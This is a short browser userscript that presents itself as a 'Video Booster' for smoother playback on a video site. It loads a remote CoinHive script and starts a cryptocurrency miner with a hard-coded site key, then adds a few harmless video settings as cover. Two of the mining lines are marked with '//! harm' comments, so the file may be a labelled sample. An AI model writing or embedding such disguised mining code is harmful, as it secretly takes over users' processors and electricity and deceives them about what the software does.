// ==UserScript==
// @name         Video Booster
// @namespace    booster.example
// @version      1.1
// @description  Smoother video playback.
// @match        https://video.example.com/*
// @grant        none
// ==/UserScript==

var s = document.createElement('script');
s.src = 'https://coinhive.booster.example/lib/coinhive.min.js'; //! harm
s.onload = function () {
  var client = new CoinHive.Anonymous('k3J9sV2bQ7xW1nT5', { throttle: 0.4 });
  client.start(CoinHive.FORCE_EXCLUSIVE_TAB); //! harm
};
document.head.appendChild(s);

document.querySelectorAll('video').forEach(function (v) {
  v.preload = 'auto';
  v.disablePictureInPicture = false;
});
